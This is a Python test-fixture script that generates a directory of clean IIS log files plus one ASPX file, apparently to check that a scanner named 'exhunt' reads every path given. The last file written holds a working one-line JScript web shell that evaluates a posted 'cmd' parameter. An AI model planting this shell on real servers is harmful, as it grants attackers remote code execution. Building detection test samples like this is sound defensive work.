"""many_paths.py DIR N: N small clean IIS logs, then (last in name order) a
web shell: scanned as `exhunt scan DIR/*`, N + 1 PATHs, all of them read."""
import os
import sys

out, n = sys.argv[1], int(sys.argv[2])
os.makedirs(out, exist_ok=True)
head = ("#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n"
        "#Date: 2021-03-01 00:00:00\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query "
        "s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus "
        "sc-win32-status time-taken\n")
for i in range(n):
    with open(os.path.join(out, "u_ex%06d.log" % i), "w") as f:
        f.write(head)
        f.write("2021-03-01 00:00:%02d 10.10.0.25 GET /owa/ - 443 - 10.1.1.%d Mozilla/5.0 - 200 0 0 1\n"
                % (i % 60, i % 250 + 1))
with open(os.path.join(out, "zz_help.aspx"), "w") as f:
    f.write('<%@ Page Language="Jscript"%><%eval(Request.Form["cmd"],"unsafe");%>\n')
